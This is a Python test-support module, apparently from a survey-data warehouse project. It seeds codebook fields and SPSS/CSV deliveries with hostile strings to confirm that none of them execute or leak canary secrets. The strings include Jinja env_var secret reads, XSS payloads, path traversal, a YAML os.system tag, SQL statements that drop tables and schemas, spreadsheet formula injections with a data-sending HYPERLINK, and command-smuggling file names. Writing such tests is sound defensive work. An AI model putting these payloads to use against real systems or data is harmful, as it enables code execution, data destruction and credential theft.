"""Codebooks and files of somebody who means harm: every text tries to be run by something.

`poison` writes hostile texts into every free cell of the codebook; `deliver_traps` brings in two
studies whose files are hostile: labels of an SPSS file, and names and codes of a CSV file.
"""

from collections.abc import Callable, Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

import pandas as pd
import pyreadstat
import yaml
from workbench import codebook_rows, set_codebook_rows, write_rows

from wavehouse.project import Project
from wavehouse_exchange.onboarding.apply import apply_draft
from wavehouse_exchange.onboarding.draft import draft_path, read_draft, write_decisions
from wavehouse_exchange.onboarding.onboard import new_study
from wavehouse_exchange.onboarding.wave_rows import StudyOptions, WaveOptions

# What must never be seen in anything that is made: the value of a variable of the environment, and
# the content of a file beside the project. Each is written in the hostile texts in no other way.
VARIABLE = "WAVEHOUSE_TEST_SECRET"
SECRET = "canary-7f3e-of-the-environment"
PLANTED = "planted.svg"
PLANTED_SECRET = "canary-91bc-of-a-file"
# What a command run by a text would make.
TOUCHED = "touched-by-a-text"

JINJA = (
    f'{{{{{{ env_var("{VARIABLE}", "none") }}}}}}',
    f"{{{{ env_var('{VARIABLE}') }}}}",
    f"{{{{{{{{ env_var('{VARIABLE}') }}}}}}}}",
    f"{{%- set x = env_var('{VARIABLE}') -%}}{{{{ x }}}}",
    "{# a comment {{ ",
    "{% enddocs %}{% docs again %}",
    "}} %} #} {",
)
MARKUP = (
    '<img src=x onerror="window.pwned=1">',
    "</script><script>window.pwned=2</script><!--<script>",
    '"><svg onload=window.pwned=3>',
    "{{constructor.constructor('window.pwned=4')()}}",
    "<iframe src='javascript:parent.pwned=5'></iframe>",
)
MARKDOWN = (
    f"![x](docs/images/../../{PLANTED})",
    f"![x](docs/images/../../../{PLANTED})",
    "[click](javascript:window.pwned=6) <javascript:window.pwned=7>",
    "![beacon](http://127.0.0.1:9/beacon.png)",
    "| a | b |",
    "`` ` ```",
)
YAML = (
    f'!!python/object/apply:os.system ["touch {TOUCHED}"]',
    "&a *a",
    "ends in: ",
    "- begins with a dash",
    "? a key",
    "% a directive\n---\nkey: value",
    "a line\n    config:\n      pre_hook: drop table x\n  - name: other",
    "# no comment",
    "no\x85line\u2028end\u2029here",
)
SQL = (
    "'); drop table marts.fct_answers; --",
    "$$; drop schema marts cascade; $$",
    "$dbt_comment_literal_block$; drop schema marts; --",
    "ends in $dbt_comment_literal_block",
    "ends in \\",
    '"; drop table x; --',
    "100 % (s) %s %(a)s",
)
FORMULAS = (
    '=HYPERLINK("http://127.0.0.1:9/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    " =1+1",
    "'=1+1",
    "\uff1d1+1",
)
TEXTS = (*JINJA, *MARKUP, *MARKDOWN, *YAML, *SQL, *FORMULAS)


def combined() -> Iterator[str]:
    """Give texts without end: each begins with another one, and has one of each kind behind it."""
    kinds = [cycle(kind) for kind in (JINJA, MARKUP, MARKDOWN, YAML, SQL)]
    for first in cycle((*FORMULAS, *TEXTS)):
        yield " ".join([first, *(next(kind) for kind in kinds)])


def free_columns(project: Project) -> dict[str, list[str]]:
    """Give the columns of each codebook table that may hold any text, and refer to nothing."""
    path = project.codebook / "_codebook__seeds.yml"
    found = {}
    for seed in yaml.safe_load(path.read_text(encoding="utf-8"))["seeds"]:
        meta = seed["config"]["meta"]
        taken = {*meta["primary_key"]}
        for key in meta.get("foreign_keys", []):
            taken |= {*key["columns"]}
        found[seed["name"]] = [
            column["name"]
            for column in seed["columns"]
            if _is_free(column.get("config", {}).get("meta", {})) and column["name"] not in taken
        ]
    return found


def _is_free(meta: dict[str, Any]) -> bool:
    return meta.get("type", "text") == "text" and not {"pattern", "accepted_values"} & set(meta)


# These are compared with other cells or with delivered files, though they are of no other table.
COMPARED = {
    "questions": {"source_column"},
    "design_columns": {"source_column"},
    "crosswalk": {"category_code"},
    "derivations": {"source_category_code", "category_code"},
    "variable_groups": {"mention_category_code"},
    "deliveries": {"file_name", "url"},
}


def poison(project: Project) -> int:
    """Write a hostile text into every free cell of the codebook; give their number."""
    texts = combined()
    count = 0
    for table, columns in free_columns(project).items():
        rows = codebook_rows(project, table)
        for row in rows:
            for column in set(columns) - COMPARED.get(table, set()):
                if column in row:
                    row[column] = next(texts)
                    count += 1
        set_codebook_rows(project, table, rows)
    return count


def deliver_traps(project: Project, folder: Path) -> None:
    """Begin two studies with hostile files, and accept whatever the drafts propose."""
    texts = combined()
    people = range(1, 61)
    frame = pd.DataFrame(
        {"id": [float(each) for each in people], "q1": [float(each % 3) for each in people]}
    )
    spss = folder / "x'); drop table y; -- {{ 1 }} =1.sav"
    pyreadstat.write_sav(
        frame,
        str(spss),
        file_label="{{ x }} <b>"[:64],
        column_labels={"id": "Number", "q1": _short(texts, 250)},
        variable_value_labels={"q1": {float(each): _short(texts, 115) for each in range(3)}},
    )
    _begin(project, "trap_labels", spss, "id", texts)
    csv = folder / "=cmd ${x} `y`.csv"
    names = ["id", "q'); drop table x; --", 'q"{{ 7*7 }}', "=q+1", "<img src=x onerror=pwned=1>"]
    codes = ("'); --", "{{ 7*7 }}", "=1+1", "<b>", "$$")
    write_rows(
        csv,
        names,
        (
            {"id": str(each), **{name: codes[(each + at) % 5] for at, name in enumerate(names[1:])}}
            for each in people
        ),
    )
    _begin(project, "trap_names", csv, "id", texts)


def _short(texts: Iterator[str], most: int) -> str:
    return next(texts).encode()[:most].decode(errors="ignore")


def _begin(
    project: Project, study_id: str, file: Path, respondent: str, texts: Iterator[str]
) -> None:
    """Bring in a study through the front door, and take all that is proposed."""
    text: Callable[[], str] = lambda: next(texts)  # noqa: E731
    study = StudyOptions(
        text(), respondent, None, None, None, text(), text(), text(), text(), "market_research"
    )
    wave = WaveOptions(text(), "2020-01-01", None, None, None, None, "landing", None)
    new_study(project, study_id, "1", [file], wave, study)
    draft = read_draft(project, study_id, "1")
    path = draft_path(project, study_id, "1")
    write_decisions(path, [each.id for each in draft.proposals], "accept", next(texts))
    # What only a person knows.
    path.write_text(path.read_text(encoding="utf-8").replace("???", "a text"), encoding="utf-8")
    apply_draft(project, study_id, "1")
